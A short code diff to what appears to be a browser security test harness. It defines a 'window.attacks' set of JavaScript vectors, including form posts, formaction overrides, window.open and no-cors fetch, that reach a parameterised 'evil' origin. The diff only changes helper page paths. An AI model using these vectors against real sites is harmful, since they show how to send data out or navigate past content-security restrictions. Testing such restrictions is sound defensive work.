@@ -31,7 +31,7 @@ Object.assign(window.attacks, {
   form_post: (evil) => form({ action: `${evil}/x`, method: "post" }),
   form_blank: (evil) => form({ action: `${evil}/x`, target: "_blank" }),
   form_formaction: (evil) =>
-    form({ action: "/helper/plain" }, (element) => {
+    form({ action: "./helper/plain.html" }, (element) => {
       const button = element.appendChild(document.createElement("button"));
       button.setAttribute("formaction", `${evil}/x`);
       button.click();
@@ -39,7 +39,7 @@ Object.assign(window.attacks, {
   window_open: (evil) => void open(`${evil}/x`),
   window_open_blank_fetch: (evil) => open("")?.fetch(evil, { mode: "no-cors" }),
   window_open_sameorigin_fetch: (evil) => {
-    const other = open("/helper/plain");
+    const other = open("./helper/plain.html");
     if (other) other.onload = () => other.fetch(evil, { mode: "no-cors" });
   },
 });
